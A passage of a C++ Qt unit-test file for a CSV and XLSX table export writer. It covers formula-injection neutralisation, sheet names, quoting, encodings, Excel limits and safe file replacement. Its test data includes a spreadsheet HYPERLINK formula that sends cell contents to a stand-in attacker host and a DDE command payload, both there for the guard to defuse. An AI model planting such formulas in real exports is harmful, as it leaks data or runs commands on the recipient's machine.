// The export writer (io/tablewriter.h): the formula-injection guard, sheet names and headers,
// CSV bytes (BOM, CRLF, RFC 4180 quoting, every kind formatted), XLSX read back with libzip
// and QXmlStreamReader (numbers as numbers with their formats, guarded text as strings, no
// formula anywhere, frozen header, autofilter, widths), Excel's limits, progress and cancel,
// and the target left untouched with no temporary file behind on every error.
#include "io/csvreader.h"
#include "io/tablewriter.h"
#include "xlsxreadback.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QtTest>

#include <cmath>
#include <csignal>
#include <limits>

#include <locale.h>
#include <sys/resource.h>
#include <unistd.h>

using namespace cockpit::io;
using namespace xlsxreadback;

namespace {

ExportColumn col(const QString &header, CellKind kind = CellKind::Text, const QString &unit = {}, int decimals = 2,
                 bool groupDigits = true)
{
    return ExportColumn{header, kind, unit, decimals, groupDigits};
}

RowSource fromList(const QList<QVariantList> &rows, int *calls = nullptr)
{
    return [rows, calls](qsizetype row, QVariantList &cells) {
        if (calls)
            ++*calls;
        if (row >= rows.size())
            return false;
        cells = rows.at(row);
        return true;
    };
}

RowSource repeated(qsizetype count, const QVariantList &cells)
{
    return [count, cells](qsizetype row, QVariantList &out) {
        if (row >= count)
            return false;
        out = cells;
        return true;
    };
}

QByteArray readFile(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(bytes);
}

// Every entry of a folder, hidden ones included: no temporary file may be left behind.
QStringList entries(const QString &dir)
{
    return QDir(dir).entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot, QDir::Name);
}

// The table of every kind used by the CSV and XLSX tests.
ExportTable everyKind()
{
    ExportTable t;
    t.title = QStringLiteral("Leads: March [draft]");
    t.columns = {
        col(QStringLiteral("Name")),
        col(QStringLiteral("Count"), CellKind::Integer),
        col(QStringLiteral("Ratio"), CellKind::Decimal, {}, 3),
        col(QStringLiteral("Amount"), CellKind::Money, QStringLiteral("CNY")),
        col(QStringLiteral("Share"), CellKind::Percent, {}, 1),
        col(QStringLiteral("Day"), CellKind::Date),
        col(QStringLiteral("At"), CellKind::DateTime),
        col(QStringLiteral("金额"), CellKind::Money, QStringLiteral("元")),
    };
    return t;
}

QList<QVariantList> everyKindRows()
{
    const QDateTime at(QDate(2026, 3, 5), QTime(6, 30, 0), QTimeZone::utc()); // 14:30 in Shanghai
    return {
        {QStringLiteral("=HYPERLINK(\"http://x\",\"y\")"), qint64(-5), 1.23456, qint64(1200050), 0.25, QDate(2026, 3, 5), at,
         qint64(100)},
        {QStringLiteral(" padded "), qint64(0), -0.0001, qint64(-5), -0.001,
         QDateTime(QDate(2026, 3, 5), QTime(20, 0), QTimeZone::utc()), QVariant(), QVariant()}, // the 6th in Shanghai
        {QStringLiteral("中文"), QStringLiteral("-7"), std::nan(""), qint64(1), 1.0, QStringLiteral("soon"), QDate(2026, 3, 5),
         QStringLiteral("=1")},
        {QStringLiteral("@SUM(A1)"), 5},
    };
}

ExportOptions shanghai()
{
    ExportOptions o;
    o.timeZone = QTimeZone("Asia/Shanghai");
    return o;
}

// Runs `body` with the process's file size limit at `bytes` (writes beyond it fail with
// EFBIG): a write that fails part-way, without filling a real disk.
template<typename F>
void withFileSizeLimit(rlim_t bytes, F body)
{
    rlimit old{};
    getrlimit(RLIMIT_FSIZE, &old);
    rlimit limit = old;
    limit.rlim_cur = bytes;
    const auto previous = std::signal(SIGXFSZ, SIG_IGN);
    setrlimit(RLIMIT_FSIZE, &limit);
    body();
    setrlimit(RLIMIT_FSIZE, &old);
    std::signal(SIGXFSZ, previous);
}

} // namespace

class TestTableWriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void neutraliseFormula_data();
    void neutraliseFormula();
    void sheetName_data();
    void sheetName();
    void headerText_data();
    void headerText();

    void csvEveryKind();
    void csvDefaultZoneIsLocalTime();
    void csvQuoting_data();
    void csvQuoting();
    void csvOptionsReadBack_data();
    void csvOptionsReadBack();
    void csvProgressAndCancel();
    void csvErrors();
    void csvWriteFailure();

    void xlsxEveryKind();
    void xlsxTextAndNumbers();
    void xlsxLongCellCut();
    void xlsxAwkwardText();
    void xlsxTooManyRowsKnown();
    void xlsxTooManyRowsUnknown();
    void xlsxProgressAndCancel();
    void xlsxReplacesTarget();
    void xlsxErrors();
    void xlsxWriteFailure();
    void xlsxNumbersUnderCommaLocale();
    void noColumns();
};

void TestTableWriter::neutraliseFormula_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("expected");
    auto row = [](const char *name, const QString &text, const QString &expected) {
        QTest::newRow(name) << text << expected;
    };
    const QString hyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    row("equals, HYPERLINK", hyperlink, u'\'' + hyperlink);
    row("plus", QStringLiteral("+1"), QStringLiteral("'+1"));
    row("minus", QStringLiteral("-1"), QStringLiteral("'-1"));
    row("at, @SUM", QStringLiteral("@SUM(A1)"), QStringLiteral("'@SUM(A1)"));
    row("leading tab", QStringLiteral("\tx"), QStringLiteral("'\tx"));
    row("leading CR", QStringLiteral("\rx"), QStringLiteral("'\rx"));
    row("DDE", QStringLiteral("=cmd|' /C calc'!A0"), QStringLiteral("'=cmd|' /C calc'!A0"));
    row("normal", QStringLiteral("normal"), QStringLiteral("normal"));
    row("empty", QString(), QString());
    row("Chinese", QStringLiteral("中文"), QStringLiteral("中文"));
    row("space then equals (guarded)", QStringLiteral(" =1"), QStringLiteral("' =1"));
    row("spaces and LF then minus", QStringLiteral("  \n-1"), QStringLiteral("'  \n-1"));
    row("ideographic space then equals", QStringLiteral("\u3000=1"), QStringLiteral("'\u3000=1"));
    row("full-width equals", QStringLiteral("＝1+1"), QStringLiteral("'＝1+1"));
    row("full-width minus", QStringLiteral("－5"), QStringLiteral("'－5"));
    row("equals inside", QStringLiteral("a=b"), QStringLiteral("a=b"));
    row("minus inside", QStringLiteral("5-3"), QStringLiteral("5-3"));
    row("space then letter", QStringLiteral(" x=1"), QStringLiteral(" x=1"));
    row("only spaces", QStringLiteral("   "), QStringLiteral("   "));
    row("already quoted", QStringLiteral("'=1"), QStringLiteral("'=1"));
}

void TestTableWriter::neutraliseFormula()
{
    QFETCH(QString, text);
    QFETCH(QString, expected);
    QCOMPARE(TableWriter::neutraliseFormula(text), expected);
}

void TestTableWriter::sheetName_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QStringList>("taken");
    QTest::addColumn<QString>("expected");
    QTest::newRow("plain") << QStringLiteral("Leads") << QStringList() << QStringLiteral("Leads");
    QTest::newRow("forbidden characters") << QStringLiteral("Q1 [draft]: a/b\\c*?") << QStringList()
                                          << QStringLiteral("Q1 _draft__ a_b_c__");
    QTest::newRow("apostrophes at the ends") << QStringLiteral("'Leads'") << QStringList() << QStringLiteral("Leads");
    QTest::newRow("empty") << QString() << QStringList() << QStringLiteral("Sheet1");
    QTest::newRow("reserved History") << QStringLiteral("history") << QStringList() << QStringLiteral("history_");
    QTest::newRow("cut to 31") << QStringLiteral("A sheet name that is much too long for Excel") << QStringList()
                               << QStringLiteral("A sheet name that is much too l");
    QTest::newRow("Chinese cut to 31") << QString(40, QChar(0x9500)) << QStringList() << QString(31, QChar(0x9500));
    QTest::newRow("taken, case-insensitive") << QStringLiteral("leads") << QStringList{QStringLiteral("Leads")}
                                             << QStringLiteral("leads (2)");
    QTest::newRow("taken twice") << QStringLiteral("Leads")
                                 << QStringList{QStringLiteral("Leads"), QStringLiteral("LEADS (2)")}
                                 << QStringLiteral("Leads (3)");
    QTest::newRow("taken and long") << QString(31, u'x') << QStringList{QString(31, u'x')} << QString(27, u'x') + QStringLiteral(" (2)");
}

void TestTableWriter::sheetName()
{
    QFETCH(QString, name);
    QFETCH(QStringList, taken);
    QFETCH(QString, expected);
    const QString out = TableWriter::sanitiseSheetName(name, taken);
    QCOMPARE(out, expected);
    QVERIFY(out.size() <= 31);
}

void TestTableWriter::headerText_data()
{
    QTest::addColumn<QString>("header");
    QTest::addColumn<QString>("unit");
    QTest::addColumn<QString>("expected");
    QTest::newRow("no unit") << QStringLiteral("Amount") << QString() << QStringLiteral("Amount");
    QTest::newRow("Latin") << QStringLiteral("Amount") << QStringLiteral("CNY") << QStringLiteral("Amount (CNY)");
    QTest::newRow("Chinese: full-width brackets") << QStringLiteral("金额") << QStringLiteral("元") << QStringLiteral("金额（元）");
    QTest::newRow("no header") << QString() << QStringLiteral("%") << QStringLiteral("%");
}

void TestTableWriter::headerText()
{
    QFETCH(QString, header);
    QFETCH(QString, unit);
    QFETCH(QString, expected);
    QCOMPARE(TableWriter::headerText(col(header, CellKind::Money, unit)), expected);
}

void TestTableWriter::csvEveryKind()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("leads.csv"));
    const ExportResult r = TableWriter::writeCsv(path, everyKind(), fromList(everyKindRows()), shanghai());
    QVERIFY2(r.ok, qPrintable(r.error));
    QCOMPARE(r.rows, 4);
    const QByteArray expected = "\xEF\xBB\xBF"
                                "Name,Count,Ratio,Amount (CNY),Share (%),Day,At,金额（元）\r\n"
                                "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",-5,1.235,12000.50,25.0,2026-03-05,2026-03-05 14:30:00,1.00\r\n"
                                "\" padded \",0,0.000,-0.05,-0.1,2026-03-06,,\r\n"
                                "中文,-7,,0.01,100.0,soon,2026-03-05,'=1\r\n"
                                "'@SUM(A1),5,,,,,,\r\n";
    QCOMPARE(readFile(path), expected);
    QCOMPARE(entries(dir.path()), QStringList{QStringLiteral("leads.csv")});
}

// Without a zone, DateTime cells show the clock the app shows: the system's local time.
void TestTableWriter::csvDefaultZoneIsLocalTime()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("local.csv"));
    ExportTable t;
    t.columns = {col(QStringLiteral("At"), CellKind::DateTime), col(QStringLiteral("Day"), CellKind::Date)};
    const QDateTime at(QDate(2026, 7, 1), QTime(23, 59, 59, 999), QTimeZone::utc());
    QVERIFY(TableWriter::writeCsv(path, t, fromList({{at, at}})).ok);
    const QDateTime local = at.toLocalTime();
    QCOMPARE(readFile(path), "\xEF\xBB\xBF" "At,Day\r\n" + local.toString(QStringLiteral("yyyy-MM-dd HH:mm:ss")).toUtf8() + ','
                                 + local.date().toString(Qt::ISODate).toUtf8() + "\r\n");
}

void TestTableWriter::csvQuoting_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("field");
    QTest::newRow("plain") << QStringLiteral("plain") << QStringLiteral("plain");
    QTest::newRow("delimiter") << QStringLiteral("a,b") << QStringLiteral("\"a,b\"");
    QTest::newRow("quotes doubled") << QStringLiteral("say \"hi\"") << QStringLiteral("\"say \"\"hi\"\"\"");
    QTest::newRow("CRLF inside") << QStringLiteral("two\r\nlines") << QStringLiteral("\"two\r\nlines\"");
    QTest::newRow("LF inside") << QStringLiteral("two\nlines") << QStringLiteral("\"two\nlines\"");
    QTest::newRow("leading space") << QStringLiteral(" lead") << QStringLiteral("\" lead\"");
    QTest::newRow("trailing space") << QStringLiteral("trail ") << QStringLiteral("\"trail \"");
    QTest::newRow("semicolon is not a delimiter") << QStringLiteral("a;b") << QStringLiteral("a;b");
    QTest::newRow("guarded and quoted") << QStringLiteral("=1,2") << QStringLiteral("\"'=1,2\"");
    QTest::newRow("NUL removed") << QStringLiteral("a") + QChar(0) + QStringLiteral("b") << QStringLiteral("ab");
}

void TestTableWriter::csvQuoting()
{
    QFETCH(QString, cell);
    QFETCH(QString, field);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("q.csv"));
    ExportTable t;
    t.columns = {col(QStringLiteral("Text"))};
    QVERIFY(TableWriter::writeCsv(path, t, fromList({{cell}})).ok);
    QCOMPARE(readFile(path), "\xEF\xBB\xBFText\r\n" + field.toUtf8() + "\r\n");
}

// What the writer writes, our own CSV reader (the import) reads back: any encoding and delimiter.
void TestTableWriter::csvOptionsReadBack_data()
{
    QTest::addColumn<int>("encoding");
    QTest::addColumn<QChar>("delimiter");
    QTest::addColumn<bool>("bom");
    QTest::newRow("UTF-8, comma, BOM") << int(TextEncoding::Utf8) << QChar(u',') << true;
    QTest::newRow("UTF-8, semicolon, no BOM") << int(TextEncoding::Utf8) << QChar(u';') << false;
    QTest::newRow("GB18030, comma") << int(TextEncoding::Gb18030) << QChar(u',') << true;
    QTest::newRow("UTF-16LE, tab") << int(TextEncoding::Utf16LE) << QChar(u'\t') << true;
}

void TestTableWriter::csvOptionsReadBack()
{
    QFETCH(int, encoding);
    QFETCH(QChar, delimiter);
    QFETCH(bool, bom);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("back.csv"));
    ExportTable t;
    t.columns = {col(QStringLiteral("客户")), col(QStringLiteral("金额"), CellKind::Money, QStringLiteral("元"))};
    const QList<QVariantList> rows{{QStringLiteral("重庆长江精工, \"总部\""), qint64(1200050)},
                                   {QStringLiteral("a;b\tc\r\nd"), qint64(-1)},
                                   {QStringLiteral("-折扣"), qint64(0)}};
    ExportOptions o;
    o.encoding = TextEncoding(encoding);
    o.delimiter = delimiter;
    o.byteOrderMark = bom;
    const ExportResult r = TableWriter::writeCsv(path, t, fromList(rows), o);
    QVERIFY2(r.ok, qPrintable(r.error));
    const QByteArray bytes = readFile(path);
    QCOMPARE(bytes.startsWith("\xEF\xBB\xBF"), bom && TextEncoding(encoding) == TextEncoding::Utf8);
    if (TextEncoding(encoding) == TextEncoding::Gb18030)
        QVERIFY(bytes.startsWith("\xBF\xCD\xBB\xA7")); // 客户, no BOM

    CsvReader reader;
    CsvOptions read;
    read.encoding = TextEncoding(encoding);
    read.delimiter = delimiter;
    QVERIFY2(reader.open(path, read), qPrintable(reader.error()));
    CsvRecord rec;
    QVERIFY(reader.next(rec));
    QCOMPARE(rec.fields, (QStringList{QStringLiteral("客户"), QStringLiteral("金额（元）")}));
    QVERIFY(reader.next(rec));
    QCOMPARE(rec.fields, (QStringList{QStringLiteral("重庆长江精工, \"总部\""), QStringLiteral("12000.50")}));
    QVERIFY(reader.next(rec));
    QCOMPARE(rec.fields, (QStringList{QStringLiteral("a;b\tc\nd"), QStringLiteral("-0.01")})); // the reader joins with \n
    QVERIFY(reader.next(rec));
    QCOMPARE(rec.fields, (QStringList{QStringLiteral("'-折扣"), QStringLiteral("0.00")}));
    QVERIFY(!reader.next(rec));
}

void TestTableWriter::csvProgressAndCancel()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("big.csv"));
    ExportTable t;
    t.columns = {col(QStringLiteral("N"), CellKind::Integer)};
    QList<std::pair<qsizetype, qsizetype>> calls;
    ExportOptions o;
    o.totalRows = 5000;
    o.progress = [&](qsizetype done, qsizetype total) {
        calls.append({done, total});
        return true;
    };
    ExportResult r = TableWriter::writeCsv(path, t, repeated(5000, {qint64(7)}), o);
    QVERIFY(r.ok);
    QCOMPARE(r.rows, 5000);
    const QList<std::pair<qsizetype, qsizetype>> expected{{1024, 5000}, {2048, 5000}, {3072, 5000}, {4096, 5000}, {5000, 5000}};
    QCOMPARE(calls, expected);

    // Cancelled over an existing file: it stays as it was, and nothing else is left.
    writeFile(path, "old contents");
    int asked = 0;
    o.progress = [&](qsizetype, qsizetype) { return ++asked < 2; };
    r = TableWriter::writeCsv(path, t, repeated(5000, {qint64(7)}), o);
    QVERIFY(!r.ok);
    QVERIFY(r.cancelled);
    QVERIFY(r.error.isEmpty());
    QCOMPARE(asked, 2);
    QCOMPARE(readFile(path), QByteArray("old contents"));
    QCOMPARE(entries(dir.path()), QStringList{QStringLiteral("big.csv")});

    // Cancelled with no file before: none after.
    o.progress = [](qsizetype, qsizetype) { return false; };
    r = TableWriter::writeCsv(dir.filePath(QStringLiteral("new.csv")), t, repeated(10, {qint64(7)}), o);
    QVERIFY(r.cancelled);
    QCOMPARE(entries(dir.path()), QStringList{QStringLiteral("big.csv")});
}

void TestTableWriter::csvErrors()
{
    QTemporaryDir dir;
    ExportTable t;
    t.columns = {col(QStringLiteral("Text"))};
    ExportResult r = TableWriter::writeCsv(dir.path(), t, fromList({{QStringLiteral("x")}}));
    QVERIFY(!r.ok);
    QVERIFY2(r.error.contains(QDir::toNativeSeparators(dir.path())) && r.error.contains(QStringLiteral("folder")),
             qPrintable(r.error));

    const QString missing = dir.filePath(QStringLiteral("no/such/folder/x.csv"));
    r = TableWriter::writeCsv(missing, t, fromList({{QStringLiteral("x")}}));
    QVERIFY(!r.ok);
    QVERIFY2(r.error.contains(QDir::toNativeSeparators(missing)) && r.error.contains(QStringLiteral("does not exist")),
             qPrintable(r.error));

    if (geteuid() == 0)
        QSKIP("Running as root: a read-only folder is still writable");
    const QString locked = dir.filePath(QStringLiteral("locked"));
    QVERIFY(QDir().mkdir(locked));
    QFile::setPermissions(locked, QFile::ReadOwner | QFile::ExeOwner);
    r = TableWriter::writeCsv(locked + QStringLiteral("/x.csv"), t, fromList({{QStringLiteral("x")}}));
    QFile::setPermissions(locked, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    QVERIFY(!r.ok);
    QVERIFY2(r.error.contains(QStringLiteral("not writable")), qPrintable(r.error));
}

void TestTableWriter::csvWriteFailure()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("full.csv"));
    writeFile(path, "old contents");
    ExportTable t;
    t.columns = {col(QStringLiteral("Text"))};
    ExportResult r;
    withFileSizeLimit(64 * 1024, [&] {
        r = TableWriter::writeCsv(path, t, repeated(200000, {QStringLiteral("a line of text that fills the file")}));
    });
    QVERIFY(!r.ok);
    QVERIFY(!r.cancelled);
    QVERIFY2(r.error.contains(QDir::toNativeSeparators(path)), qPrintable(r.error));
    QCOMPARE(readFile(path), QByteArray("old contents"));
    QCOMPARE(entries(dir.path()), QStringList{QStringLiteral("full.csv")});
}

void TestTableWriter::xlsxEveryKind()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("leads.xlsx"));
    const ExportResult r = TableWriter::writeXlsx(path, everyKind(), fromList(everyKindRows()), shanghai());
    QVERIFY2(r.ok, qPrintable(r.error));
    QCOMPARE(r.rows, 4);
    QCOMPARE(r.cutCells, 0);
    QCOMPARE(entries(dir.path()), QStringList{QStringLiteral("leads.xlsx")});

    const Workbook w = readWorkbook(path);
    const XSheet &s = w.sheet;
    QVERIFY2(s.xmlError.isEmpty(), qPrintable(s.xmlError));
    QVERIFY(!s.formula);
    // Header: strings, bold, frozen, with the filter over the data.
    QCOMPARE(s.cells.value(QStringLiteral("D1")).text, QStringLiteral("Amount (CNY)"));
    QCOMPARE(s.cells.value(QStringLiteral("E1")).text, QStringLiteral("Share")); // the cells show "%"
    QCOMPARE(s.cells.value(QStringLiteral("H1")).text, QStringLiteral("金额（元）"));
    QVERIFY(w.style(QStringLiteral("A1")).bold);
    QCOMPARE(s.pane.value(QStringLiteral("state")), QStringLiteral("frozen"));
    QCOMPARE(s.pane.value(QStringLiteral("ySplit")), QStringLiteral("1"));
    QCOMPARE(s.pane.value(QStringLiteral("topLeftCell")), QStringLiteral("A2"));
    QCOMPARE(s.autoFilter, QStringLiteral("A1:H5"));
    QVERIFY(w.workbookXml.contains("name=\"Leads_ March _draft_\""));
    QVERIFY(w.coreXml.contains("<dc:title>Leads: March [draft]</dc:title>"));

    auto number = [&](const char *ref, double value, const QString &format) {
        const XCell c = s.cells.value(QLatin1String(ref));
        QVERIFY2(c.type.isEmpty(), ref); // no t="s", t="str" or t="inlineStr": a number
        bool ok = false;
        const double v = c.value.toDouble(&ok);
        QVERIFY2(ok, qPrintable(QLatin1String(ref) + u' ' + c.value));
        QVERIFY2(std::abs(v - value) < 1e-9, qPrintable(QLatin1String(ref) + u' ' + c.value));
        QCOMPARE(w.style(QLatin1String(ref)).numberFormat, format);
    };
    number("B2", -5, QStringLiteral("#,##0"));
    number("C2", 1.23456, QStringLiteral("#,##0.000"));
    number("D2", 12000.5, QStringLiteral("#,##0.00"));
    QCOMPARE(s.cells.value(QStringLiteral("D2")).value, QStringLiteral("12000.5"));
    number("E2", 0.25, QStringLiteral("0.0%"));
    number("F2", 46086, QStringLiteral("yyyy-mm-dd")); // 2026-03-05
    number("G2", 46086 + 14.5 / 24, QStringLiteral("yyyy-mm-dd hh:mm"));
    number("H2", 1, QStringLiteral("#,##0.00"));
    number("D3", -0.05, QStringLiteral("#,##0.00"));
    number("B4", -7, QStringLiteral("#,##0")); // "-7" in an Integer column is the number
    number("E4", 1, QStringLiteral("0.0%"));
    number("B5", 5, QStringLiteral("#,##0"));

    auto text = [&](const char *ref, const QString &expected) {
        const XCell c = s.cells.value(QLatin1String(ref));
        QVERIFY2(c.type == u"inlineStr" || c.type == u"s", ref);
        QCOMPARE(c.text, expected);
    };
    text("A2", QStringLiteral("'=HYPERLINK(\"http://x\",\"y\")"));
    text("A3", QStringLiteral(" padded "));
    text("A4", QStringLiteral("中文"));
    text("A5", QStringLiteral("'@SUM(A1)"));
    text("F4", QStringLiteral("soon"));
    text("G4", QStringLiteral("2026-03-05")); // a QDate in a DateTime column: kept, as text
    text("H4", QStringLiteral("'=1"));
    QVERIFY(!s.cells.contains(QStringLiteral("C4"))); // NaN: empty
    number("F3", 46087, QStringLiteral("yyyy-mm-dd")); // a QDateTime's day, in the export's zone
    QVERIFY(!s.cells.contains(QStringLiteral("G3"))); // null: empty
    QVERIFY(w.sharedStrings.isEmpty() || !w.sharedStrings.contains("<f>"));

    // Widths from the header and content; the Chinese header counts double.
    QCOMPARE(s.widths.size(), 8);
    QVERIFY(s.widths.at(0) >= QStringLiteral("'=HYPERLINK(\"http://x\",\"y\")").size());
    QVERIFY(s.widths.at(7) >= 12); // 金额（元）: 5 wide characters
    QVERIFY(s.widths.at(1) >= 8 && s.widths.at(1) <= 10);
}

// Numbers stay numbers, text stays text: "-5" as text is guarded; huge integers keep digits.
void TestTableWriter::xlsxTextAndNumbers()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("mixed.xlsx"));
    ExportTable t;
    t.columns = {col(QStringLiteral("Text")), col(QStringLiteral("Int"), CellKind::Integer, {}, 2, false),
                 col(QStringLiteral("Day"), CellKind::Date)};
    const QList<QVariantList> rows{{QStringLiteral("-5"), qint64(-5), QDate(1900, 1, 1)},
                                   {QStringLiteral("+1"), qint64(1234567890123456789LL), QDate(1900, 3, 1)},
                                   {42, std::numeric_limits<qint64>::min(), QDate(1899, 12, 31)}};
    const ExportResult r = TableWriter::writeXlsx(path, t, fromList(rows));
    QVERIFY2(r.ok, qPrintable(r.error));
    const Workbook w = readWorkbook(path);
    QCOMPARE(w.sheet.cells.value(QStringLiteral("A2")).text, QStringLiteral("'-5"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("B2")).type, QString());
    QCOMPARE(w.sheet.cells.value(QStringLiteral("B2")).value, QStringLiteral("-5"));
    QCOMPARE(w.style(QStringLiteral("B2")).numberFormat, QStringLiteral("0"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("A3")).text, QStringLiteral("'+1"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("B3")).text, QStringLiteral("1234567890123456789"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("B4")).text, QStringLiteral("-9223372036854775808"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("A4")).text, QStringLiteral("42"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("C2")).value, QStringLiteral("1"));  // Excel's day 1
    QCOMPARE(w.sheet.cells.value(QStringLiteral("C3")).value, QStringLiteral("61")); // after its 1900-02-29
    QCOMPARE(w.sheet.cells.value(QStringLiteral("C4")).text, QStringLiteral("1899-12-31"));
    QVERIFY(!w.sheet.formula);
}

void TestTableWriter::xlsxLongCellCut()
{
    QTemporaryDir dir;
    ExportTable t;
    t.columns = {col(QStringLiteral("Id"), CellKind::Integer), col(QStringLiteral("Note"))};
    // A surrogate pair straddles the limit: it is dropped whole, not split.
    const QString note = QString(32766, u'x') + QStringLiteral("😀") + QString(7000, u'y');
    const QList<QVariantList> rows{{1, QStringLiteral("short")}, {2, note}, {3, note}};
    const QString path = dir.filePath(QStringLiteral("long.xlsx"));
    const ExportResult r = TableWriter::writeXlsx(path, t, fromList(rows));
    QVERIFY2(r.ok, qPrintable(r.error));
    QCOMPARE(r.cutCells, 2);
    QVERIFY2(r.warning.contains(QStringLiteral("row 3")) && r.warning.contains(QStringLiteral("Note")), qPrintable(r.warning));
    const Workbook w = readWorkbook(path);
    QCOMPARE(w.sheet.cells.value(QStringLiteral("B3")).text, QString(32766, u'x'));
    QVERIFY(w.sheet.widths.at(1) < 61); // Excel's 60 characters and its padding

    const QString csv = dir.filePath(QStringLiteral("long.csv"));
    QVERIFY(TableWriter::writeCsv(csv, t, fromList(rows)).ok); // CSV keeps it whole
    QVERIFY(QString::fromUtf8(readFile(csv)).contains(note));
}

// Control characters, Excel's _xHHHH_ codes and non-characters make a valid sheet.
void TestTableWriter::xlsxAwkwardText()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("awkward.xlsx"));
    ExportTable t;
    t.columns = {col(QStringLiteral("Text"))};
    const QList<QVariantList> rows{{QStringLiteral("a\x01" "b\x1F" "c")},
                                   {QStringLiteral("_x0041_ and _x00_ and _xZZZZ_")},
                                   {QStringLiteral("bad\uFFFF<&>")},
                                   {QStringLiteral("two\nlines")}};
    const ExportResult r = TableWriter::writeXlsx(path, t, fromList(rows));
    QVERIFY2(r.ok, qPrintable(r.error));
    const Workbook w = readWorkbook(path);
    QVERIFY2(w.sheet.xmlError.isEmpty(), qPrintable(w.sheet.xmlError));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("A2")).text, QStringLiteral("a_x0001_b_x001F_c"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("A3")).text, QStringLiteral("_x005F_x0041_ and _x00_ and _xZZZZ_"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("A4")).text, QStringLiteral("bad\uFFFD<&>"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("A5")).text, QStringLiteral("two\nlines"));
}

void TestTableWriter::xlsxTooManyRowsKnown()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("huge.xlsx"));
    ExportTable t;
    t.columns = {col(QStringLiteral("N"), CellKind::Integer)};
    int calls = 0;
    ExportOptions o;
    o.totalRows = 1048576; // one more than fits under the header
    const ExportResult r = TableWriter::writeXlsx(path, t, fromList({{1}}, &calls), o);
    QVERIFY(!r.ok);
    QVERIFY2(r.error.contains(QStringLiteral("1 048 576")) && r.error.contains(QStringLiteral("CSV")), qPrintable(r.error));
    QCOMPARE(calls, 0); // refused before a row was asked for
    QVERIFY(entries(dir.path()).isEmpty());

    o.totalRows = 1048575; // exactly fits: not refused up front
    QVERIFY(TableWriter::writeXlsx(path, t, fromList({{1}}), o).ok);
}

// Without a total, the row after the last that fits stops the export; nothing is left.
void TestTableWriter::xlsxTooManyRowsUnknown()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("huge.xlsx"));
    writeFile(path, "old contents");
    ExportTable t;
    t.columns = {col(QStringLiteral("N"), CellKind::Integer)};
    qsizetype asked = 0;
    const RowSource empties = [&](qsizetype row, QVariantList &) {
        asked = row + 1;
        return row < 2000000; // empty rows: quick to write
    };
    const ExportResult r = TableWriter::writeXlsx(path, t, empties);
    QVERIFY(!r.ok);
    QVERIFY2(r.error.contains(QStringLiteral("1 048 576")), qPrintable(r.error));
    QCOMPARE(asked, 1048576);
    QCOMPARE(readFile(path), QByteArray("old contents"));
    QCOMPARE(entries(dir.path()), QStringList{QStringLiteral("huge.xlsx")});
}

void TestTableWriter::xlsxProgressAndCancel()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("big.xlsx"));
    ExportTable t;
    t.columns = {col(QStringLiteral("N"), CellKind::Integer), col(QStringLiteral("Text"))};
    QList<qsizetype> done;
    ExportOptions o;
    o.progress = [&](qsizetype d, qsizetype total) {
        done << d;
        return total == -1;
    };
    ExportResult r = TableWriter::writeXlsx(path, t, repeated(3000, {qint64(7), QStringLiteral("x")}), o);
    QVERIFY2(r.ok, qPrintable(r.error));
    QCOMPARE(done, (QList<qsizetype>{1024, 2048, 3000}));

    writeFile(path, "old contents");
    int asked = 0;
    o.progress = [&](qsizetype, qsizetype) { return ++asked < 2; };
    r = TableWriter::writeXlsx(path, t, repeated(3000, {qint64(7), QStringLiteral("x")}), o);
    QVERIFY(!r.ok);
    QVERIFY(r.cancelled);
    QVERIFY(r.error.isEmpty());
    QCOMPARE(readFile(path), QByteArray("old contents"));
    QCOMPARE(entries(dir.path()), QStringList{QStringLiteral("big.xlsx")});
}

// An existing target is replaced whole, keeping its permissions; an empty table has a header.
void TestTableWriter::xlsxReplacesTarget()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("report.xlsx"));
    writeFile(path, "old contents");
    const auto permissions = QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup;
    QVERIFY(QFile::setPermissions(path, permissions));
    ExportTable t;
    t.title = QStringLiteral("销售报表");
    t.columns = {col(QStringLiteral("客户")), col(QStringLiteral("金额"), CellKind::Money, QStringLiteral("元"))};
    const ExportResult r = TableWriter::writeXlsx(path, t, fromList({}));
    QVERIFY2(r.ok, qPrintable(r.error));
    QCOMPARE(r.rows, 0);
    QVERIFY(readFile(path).startsWith("PK"));
    const auto unixBits = QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner | QFile::ReadGroup | QFile::WriteGroup
                          | QFile::ExeGroup | QFile::ReadOther | QFile::WriteOther | QFile::ExeOther;
